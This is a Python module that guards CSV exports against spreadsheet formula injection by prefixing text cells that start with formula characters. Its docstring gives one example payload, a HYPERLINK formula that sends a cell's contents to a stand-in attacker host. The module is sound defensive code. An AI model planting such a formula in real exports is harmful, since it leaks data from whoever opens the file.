"""CSV that is safe to open in a spreadsheet (CSV injection, issue 15).

A cell that starts with = + - @ or a tab or carriage return is a formula to Excel,
LibreOffice and Google Sheets: an account named `=HYPERLINK("http://evil.example/?d="&A2)`
would run when a colleague opens the export. Following the OWASP "CSV Injection"
guidance, such a text cell is written with a leading single quote, which the spreadsheet
shows as text. Numbers (and text that is only a number, such as "-12.50") are left alone:
they cannot be formulas. Every CSV this application writes goes through `safe_row`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """`value`, with a leading quote when it is text a spreadsheet would run as a formula."""
    formula = isinstance(value, str) and value.startswith(FORMULA_START)
    if formula and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """A row of cells, None as empty and formulas neutralised."""
    return [safe_cell("" if v is None else v) for v in row]


class SafeWriter:
    """`csv.writer` whose rows are neutralised cell by cell."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """`csv.DictWriter` whose values are neutralised (the header is ours)."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
